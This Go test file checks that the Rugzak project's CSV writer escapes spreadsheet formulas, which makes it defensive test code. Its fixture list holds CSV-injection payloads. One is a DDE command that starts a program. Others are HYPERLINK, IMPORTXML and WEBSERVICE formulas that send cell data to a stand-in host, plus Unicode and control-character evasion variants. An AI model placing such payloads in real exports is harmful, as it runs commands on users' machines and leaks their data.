// SPDX-License-Identifier: EUPL-1.2
// SPDX-FileCopyrightText: The Rugzak contributors

package rugzak_test

import (
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"unicode"

	"rugzak/pkg/rugzak"
)

// formulas are what makes a spreadsheet compute, fetch or start something.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://elders.example?x=\"&A1,\"klik\")",
	"=IMPORTXML(CONCAT(\"https://elders.example/\",A1),\"//a\")", "=WEBSERVICE(\"https://elders.example\")", "\t=1+1", "\r=1+1",
	"\x00=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "tekst\n=1+1", "tekst;=1+1", "tekst,=1+1,",
}

// live is a spreadsheet program as far as it matters here: it skips what cannot
// be seen and computes what begins with one of the signs.
func live(cell string) bool {
	cell = strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || r == '\ufeff' || r == '"' })
	return cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0])
}

// cells reads a file with a separator, as leniently as a spreadsheet does.
func cells(t *testing.T, file string, comma rune) []string {
	t.Helper()
	if comma == ';' { // whoever reads it as it was written knows the mark
		file = strings.TrimPrefix(file, "\ufeff")
	}
	r := csv.NewReader(strings.NewReader(file))
	r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, row := range rows {
		out = append(out, row...)
	}
	return out
}

func TestCSVHasNoFormula(t *testing.T) {
	const columns = 6
	cases, seen := 0, 0
	for _, formula := range formulas {
		for column := range columns {
			row := []string{"a", "b", "c", "d", "e", "f"}
			row[column] = formula
			var b strings.Builder
			if err := rugzak.NewCSV(&b).Row(row...); err != nil {
				t.Fatal(err)
			}
			naive := strings.Join(row, ",")
			for _, comma := range []rune{';', ',', '\t'} {
				for _, cell := range cells(t, b.String(), comma) {
					if live(cell) {
						t.Errorf("%q in column %d, read with %q: %q is live", formula, column, comma, cell)
					}
				}
			}
			for _, cell := range append(cells(t, naive, ','), cells(t, naive, ';')...) {
				if live(cell) {
					seen++
					break
				}
			}
			cases++
		}
	}
	if want := len(formulas) * columns; cases != want || len(formulas) != 18 || seen != want {
		t.Errorf("%d cases, %d of them live when written plainly, want %d", cases, seen, want)
	}
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Eén voordeur": "Eén voordeur", "a-b": "a-b", "18-/18+": "18-/18+", "wie@voorbeeld.example": "wie@voorbeeld.example",
		"=1": "'=1", "-1": "'-1", "  +1": "  '+1", "a, -b": "a, '-b", "- punt\n- punt": "'- punt\n'- punt", "\ttab": "'\ttab",
		"12 %": "12 %", "a\xffb": "a\uFFFDb", `zei "ja"`: `zei "ja"`,
	} {
		if got := rugzak.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVForm(t *testing.T) {
	var b strings.Builder
	c := rugzak.NewCSV(&b)
	_ = c.Row("naam", "wat")
	_ = c.Row(`Sam "S" Voorbeeld`, "regel\nregel; en meer")
	if want := "\ufeff\"naam\";\"wat\"\r\n\"Sam \"\"S\"\" Voorbeeld\";\"regel\nregel; en meer\"\r\n"; b.String() != want || c.Err() != nil {
		t.Errorf("wrote %q, %v", b.String(), c.Err())
	}
	full := rugzak.NewCSV(fullDisk{})
	first := full.Row("a")
	if !errors.Is(first, errFull) || !errors.Is(full.Row("b"), errFull) || !errors.Is(full.Err(), errFull) {
		t.Error("the error of writing is lost")
	}
}

var errFull = errors.New("full")

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errFull }
